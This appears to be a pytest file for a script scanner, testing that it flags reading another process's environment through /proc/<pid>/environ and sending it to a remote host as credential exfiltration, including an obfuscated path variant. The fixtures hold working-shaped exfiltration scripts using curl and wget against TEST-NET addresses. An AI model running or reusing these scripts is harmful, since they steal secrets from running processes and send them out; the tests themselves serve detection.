"""Another process's environment read through ``/proc/<pid>/environ`` with the pid known only at run
time (a shape, not a text), also when the path is assembled from pieces: the whole environment of
that process, which reaching a request is CREDENTIAL_EXFILTRATION. Hosts are TEST-NET."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors, scan_findings


@pytest.mark.parametrize(
    "script",
    [
        # redirect from the file of each pid pgrep found, then a POST of the gathered file
        "#!/bin/bash\nout=$(mktemp)\nfor p in $(pgrep -f gunicorn); do\n"
        "  tr '\\0' '\\n' < \"/proc/$p/environ\" >> \"$out\"\n"
        'done\ncurl -s -X POST http://192.0.2.31/in --data-binary @"$out"\n',
        # the path built from pieces, read by cat, sent as a form field
        '#!/bin/sh\nroot=/pr; root="${root}oc"; leaf=env; leaf="${leaf}iron"\npid=$(pidof node)\n'
        'blob=$(cat "$root/$pid/$leaf" | base64)\ncurl -s -F "d=$blob" https://198.51.100.9/u\n',
        # a thread's environment, read with strings
        '#!/bin/bash\nt=$(ls /proc/$1/task | head -n1)\nstrings "/proc/$1/task/$t/environ" > /tmp/e.txt\n'
        "wget -q --post-file=/tmp/e.txt http://203.0.113.4/e\n",
    ],
)
def test_process_environment_by_run_time_pid_sent_is_an_error(tmp_path: Path, script: str) -> None:
    errors = scan_errors(tmp_path / "s", {"scripts/collect.sh": script})
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in errors)


def test_process_status_by_pid_sent_is_no_error(tmp_path: Path) -> None:
    script = (
        '#!/bin/bash\nout=$(mktemp)\nfor p in $(pgrep -f gunicorn); do\n  grep VmRSS "/proc/$p/status" >> "$out"\n'
        'done\ncurl -s -X POST http://192.0.2.31/mem --data-binary @"$out"\n'
    )
    found = scan_findings(tmp_path / "s", {"scripts/mem.sh": script})
    assert not [f for f in found if f.severity.value == "error"]


def test_process_environment_read_locally_is_no_error(tmp_path: Path) -> None:
    script = (
        "#!/bin/bash\nfor p in $(pgrep java); do\n  tr '\\0' '\\n' < \"/proc/$p/environ\" | grep ^JAVA_HOME=\ndone\n"
    )
    found = scan_findings(tmp_path / "s", {"scripts/jh.sh": script})
    assert not [f for f in found if f.severity.value == "error"]
